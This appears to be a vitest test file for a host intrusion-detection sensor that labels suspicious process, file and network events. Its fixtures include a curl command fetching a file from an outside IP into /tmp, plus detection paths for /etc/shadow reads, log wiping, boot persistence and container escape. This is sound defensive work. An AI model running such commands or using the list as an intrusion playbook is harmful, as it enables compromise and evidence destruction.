import type { SensorEvent } from "@picket/protocol/event";
import { expect, test } from "vitest";
import { BOOT, child, connects, event, exec, idOf, opens, proc } from "../testing/events.ts";
import { placeOf } from "./places.ts";
import { Processes } from "./processes.ts";
import { stepOf } from "./steps.ts";

const bash = proc(412, "/usr/bin/bash");
const curl = child(413, "/usr/bin/curl", bash, { argv: ["curl", "-o", "/tmp/x", "http://198.51.100.7/x"] });
const file = (path: string) => ({ process: curl, file: { path } });

function kindOf(of: SensorEvent): string | undefined {
  const arrival = { id: idOf(of), boot: BOOT, receivedMs: of.timeMs, silent: false };
  const process = "process" in of.body && of.body.process ? of.body.process : curl;
  const made = stepOf(of, new Processes(BOOT).note(process, arrival, of.type === "process.exec"), arrival);
  return made && `${made.kind} ${made.object}`;
}

test.each<[string, SensorEvent, string | undefined]>([
  ["a shell", exec(0, bash), "shell bash"],
  ["a program", exec(0, curl), "exec curl -o /tmp/x http://198.51.100.7/x"],
  ["a connection outwards", connects(0, curl), "connect 198.51.100.7:4444"],
  ["one to the device itself", connects(0, curl, "127.0.0.1"), undefined],
  ["credentials read", opens(0, curl, "/etc/shadow"), "read /etc/shadow"],
  ["another file read", opens(0, curl, "/home/a/.aws/config"), undefined],
  ["a file where programs do not belong", event("file.create", 0, file("/tmp/x")), "write /tmp/x"],
  ["one that runs at boot", event("file.modify", 0, file("/etc/systemd/system/x.service")), "write /etc/systemd/system/x.service"],
  ["one that means nothing", event("file.modify", 0, file("/etc/app/x.conf")), undefined],
  ["a log removed", event("file.delete", 0, file("/var/log/wtmp")), "delete /var/log/wtmp"],
  [
    "a log moved away",
    event("file.rename", 0, { process: curl, file: { path: "/var/log/auth.log", to: "/root/x" } }),
    "delete /var/log/auth.log",
  ],
  ["a program that removes itself", event("file.delete", 0, file("/usr/bin/curl")), "delete /usr/bin/curl"],
  [
    "a file moved into place",
    event("file.rename", 0, { process: curl, file: { path: "/tmp/x", to: "/usr/bin/x" } }),
    "rename /tmp/x to /usr/bin/x",
  ],
  ["a file made executable", event("file.chmod", 0, { process: curl, file: { path: "/tmp/x", mode: 0o100755 } }), "chmod /tmp/x"],
  ["a file made readable", event("file.chmod", 0, { process: curl, file: { path: "/tmp/x", mode: 0o100644 } }), undefined],
  [
    "a port for everybody",
    event("net.listen", 0, { process: curl, net: { proto: "tcp", ip: "0.0.0.0", port: 81 } }),
    "listen tcp 0.0.0.0:81",
  ],
  ["a port for the device itself", event("net.listen", 0, { process: curl, net: { proto: "tcp", ip: "127.0.0.1", port: 81 } }), undefined],
  ["it became root", event("process.setuid", 0, { process: curl, from: 33, to: 0 }), "setuid root, was user 33"],
  ["root became somebody", event("process.setuid", 0, { process: curl, from: 0, to: 33 }), undefined],
  ["a file in memory", event("process.memfd", 0, { process: curl, name: "x" }), "memfd x"],
  ["a mount", event("kernel.mount", 0, { process: curl, source: "/dev/sda1", target: "/mnt", fsType: "ext4" }), "mount /dev/sda1 on /mnt"],
])("%s", (_, of, expected) => expect(kindOf(of)).toBe(expected));

test.each([
  ["/tmp/x", "odd"],
  ["/tmpfiles/x", undefined],
  ["/dev/shm/x", "odd"],
  ["/etc/cron.d/x", "start"],
  ["/etc/cron.d/x.dpkg-new", undefined],
  ["/etc/app/cron.conf", undefined],
  ["/root/.ssh/authorized_keys", "start"],
  ["/home/ana/.bashrc", "start"],
  ["/home/ana/.bashrc.swp", undefined],
  ["/home/ana/notes", undefined],
  ["/root/.bash_history", "log"],
  ["/var/log/auth.log", "log"],
  ["/var/log/auth.log.1", undefined],
  ["/var/log/app/app.log", undefined],
  ["/var/www/html/up.php", "web"],
  ["/proc/sys/kernel/core_pattern", "host"],
  ["/sys/fs/cgroup/rdma/release_agent", "host"],
  ["/run/docker.sock", "host"],
  ["/usr/bin/x", undefined],
  ["", undefined],
])("%s lies at %s", (path, place) => expect(placeOf(path)).toBe(place));

test("a step keeps little of a long command line, and tells two that only end differently apart", () => {
  const long = (end: string) => exec(0, proc(9, "/opt/x", { argv: [...Array<string>(31).fill("\u4e00".repeat(4000)), end] }));
  const [one, two, same] = [kindOf(long("a")), kindOf(long("b")), kindOf(long("a"))];
  expect(one!.length).toBeLessThan(1100);
  expect(one).not.toBe(two);
  expect(one).toBe(same);
});
